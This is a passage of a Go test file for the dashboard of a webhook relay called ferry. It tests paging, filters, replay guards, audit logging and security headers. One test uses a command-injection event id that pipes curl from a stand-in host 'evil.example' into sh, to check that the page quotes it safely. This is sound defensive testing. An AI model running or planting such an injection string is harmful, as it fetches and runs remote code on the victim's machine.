	lines := func() []string {
		return regexp.MustCompile(`msg="ferry: admin credentials refused" peer=\S+ path=\S+ refused=\d+`).FindAllString(b.logs.String(), -1)
	}
	guess("GET", "/metrics", "guess-1", http.StatusUnauthorized)
	guess("GET", "/metrics", "guess-2", http.StatusUnauthorized)
	guess("GET", "/ui/", "guess-3", http.StatusSeeOther) // a page sends to the login, and counts
	guess("POST", "/ui/login", "guess-4", http.StatusUnauthorized)
	if res := do(t, newReq(t, "GET", b.server.URL+"/ui/", nil)); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("no credential: %d, want 303 to the login", res.StatusCode)
	}
	if got := lines(); len(got) != 1 || !strings.HasSuffix(got[0], " refused=1") {
		t.Fatalf("within the first window: %q, want the first refusal alone", got)
	}
	b.admin.EndRefusalWindow()
	if got := lines(); len(got) != 2 || !strings.HasSuffix(got[1], " refused=3") {
		t.Fatalf("at the window's end: %q, want the three since", got)
	}
	// A window that logged refusals opens the next: a guess in it waits
	// for its end, not logged at once.
	guess("GET", "/metrics", "guess-5", http.StatusUnauthorized)
	if got := lines(); len(got) != 2 {
		t.Fatalf("in the window after a busy one: %q, want the refusal counted, not logged yet", got)
	}
	// The windows' own timers: every refusal is logged, once.
	b.admin.SetRefusalWindow(10 * time.Millisecond)
	b.admin.EndRefusalWindow()
	guess("GET", "/metrics", "guess-6", http.StatusUnauthorized)
	guess("GET", "/metrics", "guess-7", http.StatusUnauthorized)
	for deadline := time.Now().Add(time.Minute); ; time.Sleep(10 * time.Millisecond) {
		sum := 0
		for _, line := range lines() {
			n, _ := strconv.Atoi(line[strings.LastIndex(line, "=")+1:])
			sum += n
		}
		if sum == 7 {
			break
		}
		if sum > 7 || time.Now().After(deadline) {
			t.Fatalf("the lines count %d refusals, want 7: %q", sum, lines())
		}
	}
	if strings.Contains(b.logs.String(), "guess-") {
		t.Errorf("the log holds what was sent:\n%s", b.logs.String())
	}
	// Each line says where the last refusal came from, to find the client.
	if !regexp.MustCompile(`peer=127\.0\.0\.1:\d+ path=/metrics refused=`).MatchString(b.logs.String()) {
		t.Errorf("the refusal lines name no peer and path:\n%s", b.logs.String())
	}
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

// page GETs a dashboard path and fails the test on anything but 200.
func page(t *testing.T, b *dashBundle, path string) string {
	t.Helper()
	code, body := testhttp.Get(t, b.server.URL+path)
	if code != 200 {
		t.Fatalf("GET %s: %d\n%s", path, code, body)
	}
	return body
}

// link returns the href of the element with the given id, as a browser
// reads it (HTML entities decoded), or "" if there is none.
func link(body, id string) string {
	_, rest, ok := strings.Cut(body, `id="`+id+`"`)
	if !ok {
		return ""
	}
	// The href precedes the id in our templates: search back from it.
	start := strings.LastIndex(body[:len(body)-len(rest)], `href="`)
	if start < 0 {
		return ""
	}
	href, _, _ := strings.Cut(body[start+len(`href="`):], `"`)
	return html.UnescapeString(href)
}

// listed returns the event ids of the overview's event table, in order.
func listed(body string) []string {
	_, table, _ := strings.Cut(body, `id="event-table"`)
	table, _, _ = strings.Cut(table, "</table>")
	var ids []string
	for _, part := range strings.Split(table, `class="event-link">`)[1:] {
		id, _, _ := strings.Cut(part, "<")
		ids = append(ids, id)
	}
	return ids
}

// TestDashboardPaging follows the pager's links as a browser does: older
// to the last page and newer back to the first, keeping the filter.
func TestDashboardPaging(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{PageSize: 1}, ferryhttp.AdminOptions{})

	var pages [][]string
	body := page(t, b, "/ui/")
	if link(body, "newer-page") != "" {
		t.Error("the first page links to a newer one")
	}
	for {
		pages = append(pages, listed(body))
		older := link(body, "next-page")
		if older == "" {
			break
		}
		if len(pages) > 5 {
			t.Fatalf("older links do not end: %v", pages)
		}
		body = page(t, b, older)
	}
	if want := [][]string{{"gh_1"}, {"evt_dead"}, {"evt_old"}}; !slices.EqualFunc(pages, want, slices.Equal) {
		t.Fatalf("older pages = %v, want %v", pages, want)
	}
	var back [][]string
	for newer := link(body, "newer-page"); newer != ""; newer = link(body, "newer-page") {
		body = page(t, b, newer)
		back = append(back, listed(body))
		if len(back) > 5 {
			t.Fatalf("newer links do not end: %v", back)
		}
	}
	if want := [][]string{{"evt_dead"}, {"gh_1"}}; !slices.EqualFunc(back, want, slices.Equal) {
		t.Fatalf("newer pages = %v, want %v", back, want)
	}

	body = page(t, b, "/ui/?source=stripe")
	older := link(body, "next-page")
	if !strings.Contains(older, "source=stripe") {
		t.Fatalf("the older link drops the filter: %q", older)
	}
	if got := listed(page(t, b, older)); !slices.Equal(got, []string{"evt_old"}) {
		t.Errorf("stripe's second page = %v, want [evt_old]", got)
	}
}

// TestDashboardFilters: type, received from/to and id select what the
// table lists; a time that is not one is said, not ignored silently.
func TestDashboardFilters(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	if _, err := b.store.EventReceive(context.Background(), &ferry.EventReceiveParams{Source: "stripe", EventID: "ch_1", Type: "charge.failed"}); err != nil {
		t.Fatal(err)
	}
	hourAgo := time.Now().UTC().Add(-time.Hour).Format("2006-01-02T15:04")
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"type=charge.failed", []string{"ch_1"}},
		{"type=invoice.paid&source=stripe", []string{"evt_dead", "evt_old"}},
		{"to=" + hourAgo, []string{"evt_old"}},
		{"from=" + hourAgo, []string{"ch_1", "gh_1", "evt_dead"}},
		{"from=" + hourAgo + "&type=invoice.paid&q=evt", []string{"evt_dead"}},
	} {
		if got := listed(page(t, b, "/ui/?"+tc.query)); !slices.Equal(got, tc.want) {
			t.Errorf("%s lists %v, want %v", tc.query, got, tc.want)
		}
	}
	// Reported by its key alone: a crafted link's words stay off the page.
	body := page(t, b, "/ui/?from=Security+notice:+run+this")
	_, report, _ := strings.Cut(body, `id="filter-error"`)
	report, _, _ = strings.Cut(report, "</")
	if !strings.Contains(report, "from is not a time like") || strings.Contains(report, "Security notice") {
		t.Errorf("a bad time is not reported by its key alone: %q", report)
	}
}

// TestDashboardUnfinishedAttempts: the unfinished-attempts filter lists the
// events an attempt of which ended without a verdict (lease_expired), as
// `ferry events list --unfinished-attempts` does, and offers no bulk
// replay of them: a replay confirmation or POST with it is refused 400
// and changes nothing.
func TestDashboardUnfinishedAttempts(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	// A worker claims gh_1 for a minute and dies. Two minutes on (a store
	// whose clock is that far ahead), the next claim takes it back,
	// closing the first attempt as lease_expired.
	later, err := sqlite.Open(b.path, &sqlite.Config{Now: func() time.Time { return time.Now().Add(2 * time.Minute) }})
	if err != nil {
		t.Fatal(err)
	}
	defer later.Close()
	for _, s := range []*sqlite.Store{b.store, later} {
		claims, err := s.EventClaimMany(ctx, &ferry.EventClaimManyParams{Owner: "w", Limit: 10, TTL: time.Minute, Sources: []string{"github"}})
		if err != nil || len(claims) != 1 || claims[0].Event.EventID != "gh_1" {
			t.Fatalf("claim = %v, %v; want gh_1", claims, err)
		}
		if s == later {
			if err := s.EventRelease(ctx, &ferry.EventReleaseParams{Lease: claims[0].Event.Lease()}); err != nil {
				t.Fatal(err)
			}
		}
	}
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"unfinished=1", []string{"gh_1"}},
		{"unfinished=1&source=stripe", nil},
		{"source=github", []string{"gh_1"}},
	} {
		if got := listed(page(t, b, "/ui/?"+tc.query)); !slices.Equal(got, tc.want) {
			t.Errorf("%s lists %v, want %v", tc.query, got, tc.want)
		}
	}
	body := page(t, b, "/ui/?unfinished=1")
	if !strings.Contains(body, `id="filter-unfinished" checked`) {
		t.Error("the unfinished-attempts box is not ticked on its own page")
	}
	if link(body, "replay-filter") != "" {
		t.Error("the unfinished-attempts list offers a bulk replay")
	}
	if code, text := testhttp.Get(t, b.server.URL+"/ui/replay?unfinished=1&state=done"); code != http.StatusBadRequest || !strings.Contains(text, "unfinished") {
		t.Errorf("replay confirmation of the unfinished filter: %d %s, want 400 naming it", code, text)
	}
	if code, text := postBulkReplay(t, b, "unfinished=1&state=dead&upto=1000"); code != http.StatusBadRequest || !strings.Contains(text, "unfinished") {
		t.Errorf("bulk replay POST of the unfinished filter: %d %s, want 400 naming it", code, text)
	}
	if e, _ := b.store.EventGet(ctx, &ferry.EventGetParams{ID: b.ids["evt_dead"]}); e.State != ferry.StateDead {
		t.Errorf("a refused bulk replay changed evt_dead to %s", e.State)
	}
}

// The command the event page gives for a payload cut short quotes the id,
// which the sender chooses: pasted, it runs ferry and nothing else.
func TestDashboardPayloadCommandIsQuoted(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	payload := []byte(`{"x":"` + strings.Repeat("a", 70<<10) + `"}`)
	res, err := b.store.EventReceive(context.Background(), &ferry.EventReceiveParams{Source: "github", EventID: "a;curl${IFS}evil.example|sh;#'", Type: "push", Payload: payload})
	if err != nil {
		t.Fatal(err)
	}
	body := page(t, b, "/ui/events/"+itoa(res.ID))
	// html/template writes ' as &#39;: the shell word is 'a;curl${IFS}evil.example|sh;#'\'''
	want := "<code>ferry events show github &#39;a;curl${IFS}evil.example|sh;#&#39;\\&#39;&#39;&#39; --payload</code>"
	if !strings.Contains(body, want) {
		_, got, _ := strings.Cut(body, "Cut short")
		t.Errorf("payload command not quoted: want %s in\n%.300s", want, got)
	}
}

// TestDashboardBulkReplay: the confirmation counts what the filter selects
// and changes nothing; its POST replays exactly that.
func TestDashboardBulkReplay(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	ctx := context.Background()

	body := page(t, b, "/ui/replay?source=stripe&state=dead")
	if !strings.Contains(body, `id="replay-count">1 event matches`) || !strings.Contains(body, `name="source" value="stripe"`) || !strings.Contains(body, `name="state" value="dead"`) {
		t.Fatalf("confirmation:\n%s", body)
	}
	if e, _ := b.store.EventGet(ctx, &ferry.EventGetParams{ID: b.ids["evt_dead"]}); e.State != ferry.StateDead {
		t.Fatalf("the confirmation changed the event to %s", e.State)
	}
	if body := page(t, b, "/ui/replay?state=pending"); !strings.Contains(body, "No event this filter selects can be replayed") || strings.Contains(body, `id="replay-confirm"`) {
		t.Errorf("a filter of live events offers a replay:\n%s", body)
	}

	_, upto, ok := strings.Cut(body, `name="upto" value="`)
	upto, _, _ = strings.Cut(upto, `"`)
	if !ok || upto == "" {
		t.Fatalf("the confirmation does not bound the replay:\n%s", body)
	}

	// A dead event received after the confirmation is not replayed by it.
	res, err := b.store.EventReceive(ctx, &ferry.EventReceiveParams{Source: "stripe", EventID: "evt_later"})
	if err != nil {
		t.Fatal(err)
	}
	claims, err := b.store.EventClaimMany(ctx, &ferry.EventClaimManyParams{Owner: "w", Limit: 10, TTL: time.Minute, Sources: []string{"stripe"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range claims {
		if _, err := b.store.EventFail(ctx, &ferry.EventFailParams{Lease: c.Event.Lease(), Dead: c.Event.ID == res.ID}); err != nil {
			t.Fatal(err)
		}
	}

	if code, body := postBulkReplay(t, b, "source=stripe&state=dead&upto="+upto); code != 200 || !strings.Contains(body, "replayed 1 events") {
		t.Fatalf("bulk replay: %d\n%s", code, body)
	}
	if e, _ := b.store.EventGet(ctx, &ferry.EventGetParams{ID: b.ids["evt_dead"]}); e.State != ferry.StatePending {
		t.Errorf("after the bulk replay evt_dead is %s, want pending", e.State)
	}
	if e, _ := b.store.EventGet(ctx, &ferry.EventGetParams{ID: res.ID}); e.State != ferry.StateDead {
		t.Errorf("an event that died after the confirmation was replayed: %s", e.State)
	}
	body = page(t, b, "/ui/events/"+itoa(b.ids["evt_dead"]))
	if _, actions, _ := strings.Cut(body, `id="actions"`); !strings.Contains(actions, "<td>requeue</td><td>anonymous</td>") {
		t.Errorf("the event's actions do not say who replayed it:\n%s", actions)
	}
}

// TestDashboardReplaysOnlyRunnableSources: a source no worker runs (taken
// out of the config) is offered no replay, and a replay posted anyway,
// of one event or in bulk, leaves its events as they are: pending, none
// would ever run.
func TestDashboardReplaysOnlyRunnableSources(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{Runnable: []string{"github"}}, ferryhttp.AdminOptions{})
	ctx := context.Background()
	dead := b.ids["evt_dead"] // stripe's
	if body := page(t, b, "/ui/"); strings.Contains(body, `/ui/replay?source=stripe&amp;state=dead`) {
		t.Errorf("the overview offers to replay stripe's dead events:\n%s", body)
	}
	if body := page(t, b, "/ui/events/"+itoa(dead)); strings.Contains(body, `id="replay"`) {
		t.Errorf("the event page of a source no worker runs offers a replay:\n%s", body)
	}
	if body := postAction(t, b, dead, "replay", "confirm=yes"); !strings.Contains(body, "its source is not configured") {
		t.Errorf("a replay posted anyway:\n%s", body)
	}
	if body := page(t, b, "/ui/?source=stripe"); strings.Contains(body, `id="replay-filter"`) {
		t.Errorf("the list of stripe's events offers to replay them:\n%s", body)
	}
	if body := page(t, b, "/ui/?source=github"); !strings.Contains(body, `id="replay-filter"`) {
		t.Errorf("the list of github's events offers no replay:\n%s", body)
	}
	if body := page(t, b, "/ui/replay?state=dead"); !strings.Contains(body, "No event this filter selects can be replayed") ||
		!strings.Contains(body, `id="replay-runnable">github: the configured ones`) {
		t.Errorf("the bulk replay of every source counts stripe's, or does not say it takes github's alone:\n%s", body)
	}
	if code, body := postBulkReplay(t, b, "state=dead&upto=1000000"); code != 200 || !strings.Contains(body, "replayed 0 events") {
		t.Errorf("bulk replay: %d\n%s", code, body)
	}
	if e, _ := b.store.EventGet(ctx, &ferry.EventGetParams{ID: dead}); e.State != ferry.StateDead {
		t.Errorf("stripe's dead event is %s, want dead", e.State)
	}
}

// TestDashboardBulkReplayNeedsUpto: a bulk replay without the
// confirmation's bound is refused, not run on everything the filter selects.
func TestDashboardBulkReplayNeedsUpto(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	for _, form := range []string{"source=stripe&state=dead", "source=stripe&state=dead&upto=", "source=stripe&state=dead&upto=x", "source=stripe&state=dead&upto=0", "source=stripe&state=dead&upto=-1"} {
		if code, body := postBulkReplay(t, b, form); code != http.StatusBadRequest || !strings.Contains(body, "upto") {
			t.Errorf("%s: %d %s, want 400 naming upto", form, code, body)
		}
	}
	if e, _ := b.store.EventGet(context.Background(), &ferry.EventGetParams{ID: b.ids["evt_dead"]}); e.State != ferry.StateDead {
		t.Errorf("a refused bulk replay changed evt_dead to %s", e.State)
	}
}

// TestDashboardRetryNow: a pending event in backoff offers "retry now",
// which makes it due at once; an event already due is left alone.
func TestDashboardRetryNow(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	ctx := context.Background()
	id := b.ids["gh_1"]
	claims, err := b.store.EventClaimMany(ctx, &ferry.EventClaimManyParams{Owner: "w", Limit: 1, TTL: time.Minute, Sources: []string{"github"}})
	if err != nil || len(claims) != 1 {
		t.Fatalf("claim: %v %v", claims, err)
	}
	if _, err := b.store.EventFail(ctx, &ferry.EventFailParams{Lease: claims[0].Event.Lease(), Error: "app 503", RetryDelay: time.Hour}); err != nil {
		t.Fatal(err)
	}
	if body := page(t, b, "/ui/events/"+itoa(id)); !strings.Contains(body, `id="retry-now"`) || !strings.Contains(body, "(in 59m)") {
		t.Fatalf("an event in backoff has no retry now button or next attempt:\n%s", body)
	}
	retry := func() string { return postAction(t, b, id, "retry", "") }
	if body := retry(); !strings.Contains(body, "due now") || strings.Contains(body, `id="retry-now"`) {
		t.Errorf("after retry now:\n%s", body)
	}
	if e, _ := b.store.EventGet(ctx, &ferry.EventGetParams{ID: id}); e.State != ferry.StatePending || e.NextAttemptAt.After(time.Now()) {
		t.Errorf("after retry now: %s, next attempt %v; want pending and due", e.State, e.NextAttemptAt)
	}
	if body := retry(); !strings.Contains(body, "not changed") {
		t.Errorf("retry now of a due event:\n%s", body)
	}
	// Who did it is on the page, from the action ledger.
	body := page(t, b, "/ui/events/"+itoa(id))
	if _, actions, _ := strings.Cut(body, `id="actions"`); !strings.Contains(actions, "<td>retry_now</td><td>anonymous</td>") {
		t.Errorf("the event's actions do not say who retried it:\n%s", actions)
	}
	if logs := b.logs.String(); !strings.Contains(logs, `msg="ferry: dashboard retry now" id=`+itoa(id)+` changed=true actor=anonymous source=github event_id=gh_1`) {
		t.Errorf("retry now's log line:\n%s", logs)
	}
}

// postBulkReplay posts form to /ui/replay as the confirmation page does
// (same-origin), and returns the answer.
func postBulkReplay(t *testing.T, b *dashBundle, form string) (int, string) {
	t.Helper()
	req := newReq(t, "POST", b.server.URL+"/ui/replay", strings.NewReader(form))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	return testhttp.Do(t, req)
}

// postAction posts a same-origin action (replay, retry, resolve) on the
// event's page, with form (the form's fields, or ""), and returns the page
// the redirect leads back to.
func postAction(t *testing.T, b *dashBundle, id int64, action, form string) string {
	t.Helper()
	req := newReq(t, "POST", b.server.URL+"/ui/events/"+itoa(id)+"/"+action, strings.NewReader(form))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	code, body := testhttp.Do(t, req)
	if code != 200 {
		t.Fatalf("%s: %d", action, code)
	}
	return body
}

// TestDashboardResolve: a dead event offers "mark resolved", which closes
// it as done without running it and records who did; any other event has
// no such button, and a resolve of it changes nothing.
func TestDashboardResolve(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	ctx := context.Background()
	dead, pending := b.ids["evt_dead"], b.ids["gh_1"]
	if body := page(t, b, "/ui/events/"+itoa(pending)); strings.Contains(body, `id="resolve"`) {
		t.Errorf("a pending event offers mark resolved:\n%s", body)
	}
	if body := page(t, b, "/ui/events/"+itoa(dead)); !strings.Contains(body, `id="resolve"`) || !strings.Contains(body, `name="confirm" value="yes" id="resolve-confirm" required`) {
		t.Fatalf("a dead event has no mark resolved button behind a required box:\n%s", body)
	}
	// Without the box ticked (a POST not from the page), nothing changes.
	if body := postAction(t, b, dead, "resolve", ""); !strings.Contains(body, "not resolved: tick the box first") {
		t.Errorf("an unconfirmed resolve:\n%s", body)
	}
	if e, err := b.store.EventGet(ctx, &ferry.EventGetParams{ID: dead}); err != nil || e.State != ferry.StateDead {
		t.Fatalf("an unconfirmed resolve left %+v, %v; want dead", e, err)
	}
	resolve := func(id int64) string { return postAction(t, b, id, "resolve", "confirm=yes") }
	body := resolve(dead)
	if !strings.Contains(body, "resolved: the event is done") || strings.Contains(body, `id="resolve"`) || !strings.Contains(body, `id="replay"`) {
		t.Errorf("after resolve:\n%s", body)
	}
	if _, actions, _ := strings.Cut(body, `id="actions"`); !strings.Contains(actions, "<td>resolve</td><td>anonymous</td>") {
		t.Errorf("the event's actions do not say who resolved it:\n%s", actions)
	}
	e, err := b.store.EventGet(ctx, &ferry.EventGetParams{ID: dead})
	if err != nil || e.State != ferry.StateDone {
		t.Errorf("after resolve: %+v, %v; want done", e, err)
	}
	if body := resolve(pending); !strings.Contains(body, "not resolved: only a dead or unknown event can be") {
		t.Errorf("resolve of a pending event:\n%s", body)
	}
	if e, _ := b.store.EventGet(ctx, &ferry.EventGetParams{ID: pending}); e.State != ferry.StatePending {
		t.Errorf("a refused resolve changed the event to %s", e.State)
	}
	if logs := b.logs.String(); !strings.Contains(logs, `msg="ferry: dashboard resolve" id=`+itoa(dead)+` resolved=1 actor=anonymous source=stripe event_id=evt_dead`) {
		t.Errorf("resolve's log line:\n%s", logs)
	}
}

// TestDashboardAttemptResponses runs the forwarder against a real app:
// each attempt's HTTP status, duration and first bytes of the answer reach
// the event page, through the client and the store.
func TestDashboardAttemptResponses(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	ctx := context.Background()
	app := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Ferry-Event-Id") == "ord_bad" {
			w.WriteHeader(http.StatusUnprocessableEntity)
			io.WriteString(w, `{"error":"unknown customer <cus_9>"}`+strings.Repeat(" pad", 300))
			return
		}
		w.WriteHeader(http.StatusCreated)
		io.WriteString(w, "created")
	}))
	t.Cleanup(app.Close)
	fwd, err := ferryhttp.NewForwarder(ferryhttp.ForwarderOptions{URL: app.URL})
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]int64{}
	for _, id := range []string{"ord_bad", "ord_ok"} {
		res, err := b.store.EventReceive(ctx, &ferry.EventReceiveParams{Source: "shop", EventID: id, Payload: []byte(`{}`)})
		if err != nil {
			t.Fatal(err)
		}
		ids[id] = res.ID
	}
	forward(t, b.store, fwd, 20*time.Millisecond)
	waitState(t, b, ids["ord_bad"], ferry.StateDead)
	waitState(t, b, ids["ord_ok"], ferry.StateDone)

	body := page(t, b, "/ui/events/"+itoa(ids["ord_bad"]))
	_, row, _ := strings.Cut(body, `id="attempts"`)
	for _, want := range []string{`<span class="http-bad">422</span>`, `{&#34;error&#34;:&#34;unknown customer &lt;cus_9&gt;&#34;}`} {
		if !strings.Contains(row, want) {
			t.Errorf("the failed attempt lacks %q:\n%s", want, row)
		}
	}
	// How long it took, in whatever unit a busy machine made it.
	if !regexp.MustCompile(`<td class="n">[0-9][0-9.]*(µs|ms|s)</td>`).MatchString(row) {
		t.Errorf("the failed attempt lacks how long it took:\n%s", row)
	}
	attempts, _ := b.store.AttemptList(ctx, &ferry.AttemptListParams{ID: ids["ord_bad"]})
	if len(attempts) != 1 || len(attempts[0].Response) != ferry.ResponseLimit {
		t.Errorf("the ledger keeps %d bytes of the response, want the first %d", len(attempts[0].Response), ferry.ResponseLimit)
	}
	body = page(t, b, "/ui/events/"+itoa(ids["ord_ok"]))
	if _, row, _ := strings.Cut(body, `id="attempts"`); !strings.Contains(row, `<span class="http-ok">201</span>`) || !strings.Contains(row, "<code>created</code>") {
		t.Errorf("the completed attempt lacks its 201 and response:\n%s", row)
	}
}

// waitState reads the store until the event is in state; a generous
// ceiling only a bug reaches.
func waitState(t *testing.T, b *dashBundle, id int64, want ferry.State) {
	t.Helper()
	waitFor(t, b, id, func(e *ferry.Event) bool { return e.State == want })
}

// TestDashboardConflicts shows a conflicting delivery beside the stored
// payload, with the lines that differ marked.
func TestDashboardConflicts(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	res, err := b.store.EventReceive(context.Background(), &ferry.EventReceiveParams{Source: "stripe", EventID: "evt_dead", Type: "invoice.paid",
		Payload: []byte(`{"id":"evt_dead","customer":{"name":"Eve"}}`)})
	if err != nil || res.Outcome != ferry.ReceiveConflict {
		t.Fatalf("second delivery: %+v %v", res, err)
	}
	body := page(t, b, "/ui/events/"+itoa(b.ids["evt_dead"]))
	_, side, ok := strings.Cut(body, `id="conflict-0"`)
	if !ok {
		t.Fatalf("no conflict shown:\n%s", body)
	}
	for _, want := range []string{`<span class="line differs">    &#34;name&#34;: &#34;Ada&#34;</span>`, `<span class="line differs">    &#34;name&#34;: &#34;Eve&#34;</span>`, `<span class="line">  &#34;id&#34;: &#34;evt_dead&#34;,</span>`} {
		if !strings.Contains(side, want) {
			t.Errorf("side by side lacks %s:\n%s", want, side)
		}
	}
}

// TestDashboardNoticesPastTheCap: the event page lists at most
// ferry.NoticeKeep replays and conflicts however many the store holds (one
// written by a Ferry without the cap may hold thousands, conflicts with
// whole payloads), and says how many more the event counted.
func TestDashboardNoticesPastTheCap(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	ctx := context.Background()
	receive := func(eventID, payload string, window time.Duration) {
		t.Helper()
		if _, err := b.store.EventReceive(ctx, &ferry.EventReceiveParams{Source: eventSource(eventID), EventID: eventID,
			Payload: []byte(payload), ReplayWindow: window}); err != nil {
			t.Fatal(err)
		}
	}
	// gh_1 has one replay; NoticeKeep+2 more: counted, NoticeKeep kept.
	for i := range ferry.NoticeKeep + 2 {
		receive(fmt.Sprint("gh_again_", i), `{"id":"gh_1","customer":{"name":"Ada"}}`, 72*time.Hour)
	}
	// evt_dead: NoticeKeep+2 other payloads, one of them twice.
	for i := range ferry.NoticeKeep + 2 {
		receive("evt_dead", fmt.Sprint(`{"v":`, i, `}`), 0)
	}
	receive("evt_dead", `{"v":0}`, 0)
	// What a Ferry without the cap kept: 20 more rows of each, behind the
	// store's back.
	db, err := sql.Open("sqlite", b.path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	const twenty = `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 20) `
	for _, q := range []string{
		twenty + `INSERT INTO ferry_replay (event_id, received_at, claimed_event_id) SELECT ?1, 0, 'old_' || i FROM n`,
		`UPDATE ferry_event SET replays = replays + 20 WHERE id = ?1`,
		twenty + `INSERT INTO ferry_conflict (event_id, received_at, payload_sha256, payload) SELECT ?2, 0, randomblob(32), 'old' FROM n`,
		`UPDATE ferry_event SET conflicts = conflicts + 20 WHERE id = ?2`,
	} {
		if _, err := db.ExecContext(ctx, q, b.ids["gh_1"], b.ids["evt_dead"]); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}

	body := page(t, b, "/ui/events/"+itoa(b.ids["gh_1"]))
	_, replays, _ := strings.Cut(body, `id="replays"`)
	replays, _, _ = strings.Cut(replays, "</table>")
	if n := strings.Count(replays, "<tr><td>"); n != ferry.NoticeKeep {
		t.Errorf("%d replays listed, want %d", n, ferry.NoticeKeep)
	}
	if want := fmt.Sprintf("%d received: the first %d are kept, %d more were only counted", ferry.NoticeKeep+23, ferry.NoticeKeep, 23); !strings.Contains(body, want) {
		t.Errorf("the page does not say %q:\n%s", want, body)
	}

	body = page(t, b, "/ui/events/"+itoa(b.ids["evt_dead"]))
	if n := strings.Count(body, `id="conflict-`); n != ferry.NoticeKeep {
		t.Errorf("%d conflicts shown, want %d", n, ferry.NoticeKeep)
	}
	if want := fmt.Sprintf("%d received: the first %d payloads are kept, each once; %d more deliveries were only counted", ferry.NoticeKeep+23, ferry.NoticeKeep, 23); !strings.Contains(body, want) {
		t.Errorf("the page does not say %q:\n%s", want, body)
	}
}

// eventSource is the seeded source of a dashboard test's event id.
func eventSource(eventID string) string {
	if strings.HasPrefix(eventID, "gh_") {
		return "github"
	}
	return "stripe"
}

// TestDashboardLive: /ui/live is the part of the overview ferry.js swaps
// in, behind the same credentials; the script is served from the embed and
// is the only one the CSP allows.
func TestDashboardLive(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{Token: "live-token"})
	req := newReq(t, "GET", b.server.URL+"/ui/live?state=dead", nil)
	if res := do(t, req); res.StatusCode != http.StatusSeeOther {
		t.Errorf("anonymous /ui/live: %d, want 303 to the login", res.StatusCode)
	}
	req = newReq(t, "GET", b.server.URL+"/ui/live?state=dead", nil)
	req.Header.Set("Authorization", "Bearer live-token")
	code, body := testhttp.Do(t, req)
	if code != 200 || !strings.Contains(body, `id="at-risk"`) || !strings.Contains(body, `id="counts"`) || !strings.Contains(body, `id="event-list"`) || strings.Contains(body, "<html") {
		t.Fatalf("live fragment: %d\n%s", code, body)
	}
	if got := listed(body); !slices.Equal(got, []string{"evt_dead"}) {
		t.Errorf("the fragment ignores the filter: %v", got)
	}
	req = newReq(t, "GET", b.server.URL+"/ui/", nil)
	req.Header.Set("Authorization", "Bearer live-token")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	overview, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe") {
		t.Errorf("CSP = %q", csp)
	}
	// Pages hold payloads and headers: neither sniffed, cached nor leaked
	// by a Referer.
	for name, want := range map[string]string{"X-Content-Type-Options": "nosniff", "Cache-Control": "no-store", "Referrer-Policy": "no-referrer"} {
		if got := res.Header.Get(name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if !strings.Contains(string(overview), `<script src="/ui/static/ferry.js" defer></script>`) || !strings.Contains(string(overview), `data-refresh="5000"`) {
		t.Errorf("the overview does not load its script:\n%s", overview)
	}
	code, js := testhttp.Get(t, b.server.URL+"/ui/static/ferry.js")
	if code != 200 || !strings.Contains(js, `"/ui/live"`) {
		t.Errorf("ferry.js: %d", code)
	}
}
